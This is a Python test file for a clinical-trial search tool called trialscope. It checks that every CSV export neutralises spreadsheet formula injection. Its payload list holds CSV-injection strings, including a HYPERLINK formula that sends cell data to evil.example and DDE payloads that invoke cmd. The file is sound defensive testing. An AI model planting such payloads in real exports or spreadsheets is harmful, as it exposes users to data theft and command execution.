"""CSV injection: record text that a spreadsheet would run as a formula is neutralised in
every CSV trialscope writes (the web export, the API's search CSV and a single study's CSV)."""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from tests.hostile.records import serve_records, with_text_everywhere
from trialscope.web.export import FORMULA_PREFIXES, safe_cell, write_csv

PAYLOADS = {
    "NCT09999911": '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
    "NCT09999912": "+cmd|' /C calc'!A0",
    "NCT09999913": "@SUM(1+1)*cmd|' /C calc'!A0",
    "NCT09999914": "\t=1+1",
    "NCT09999915": "-2+3+cmd|' /C notepad'!A0",
    "NCT09999916": "\r=2+5",
}


@pytest.fixture(scope="module")
def csv_server(tmp_path_factory):
    records = [with_text_everywhere(nct, payload) for nct, payload in PAYLOADS.items()]
    with serve_records(tmp_path_factory.mktemp("csv"), records) as base:
        yield base


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_neutral(rows: list[list[str]], payloads: list[str]) -> None:
    cells = [c for row in rows for c in row]
    assert cells
    for c in cells:
        assert not c.startswith(FORMULA_PREFIXES), repr(c)
    for p in payloads:  # the text itself survives, behind the quote
        assert "'" + p in cells, (p, "missing from the CSV")


def test_safe_cell():
    for p in PAYLOADS.values():
        assert safe_cell(p) == "'" + p
    assert safe_cell("Liver cancer") == "Liver cancer"
    assert safe_cell("") == "" and safe_cell(None) == "" and safe_cell(42) == "42"
    assert _cells(write_csv(["=A1"], [["+1", "plain"]])) == [["'=A1"], ["'+1", "plain"]]


@pytest.mark.parametrize("column", ["Study Title", "Acronym", "Sponsor", "Conditions", "Brief Summary"])
def test_api_search_csv(csv_server, column):
    r = httpx.get(f"{csv_server}/api/v2/studies", params={"format": "csv", "fields": f"NCT Number|{column}",
                                                          "pageSize": 100}, timeout=30)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = _cells(r.text)
    assert rows[0] == ["NCT Number", column] and len(rows) == 1 + len(PAYLOADS)
    _assert_neutral(rows, list(PAYLOADS.values()))


def test_api_search_csv_every_column(csv_server):
    r = httpx.get(f"{csv_server}/api/v2/studies", params={"format": "csv", "pageSize": 100}, timeout=30)
    rows = _cells(r.text)
    assert len(rows[0]) == 30
    _assert_neutral(rows, list(PAYLOADS.values()))


@pytest.mark.parametrize("nct", list(PAYLOADS))
def test_single_study_csv(csv_server, nct):
    r = httpx.get(f"{csv_server}/api/v2/studies/{nct}", params={"format": "csv"}, timeout=30)
    assert r.status_code == 200
    rows = _cells(r.text)
    assert len(rows) == 2
    _assert_neutral(rows, [PAYLOADS[nct]])
    title = rows[1][rows[0].index("Study Title")]
    assert title == "'" + PAYLOADS[nct]


def test_web_export_csv(csv_server):
    r = httpx.get(f"{csv_server}/export.csv", timeout=30)
    assert r.status_code == 200 and "attachment" in r.headers["content-disposition"]
    rows = _cells(r.text)
    assert len(rows) == 1 + len(PAYLOADS)
    _assert_neutral(rows, list(PAYLOADS.values()))
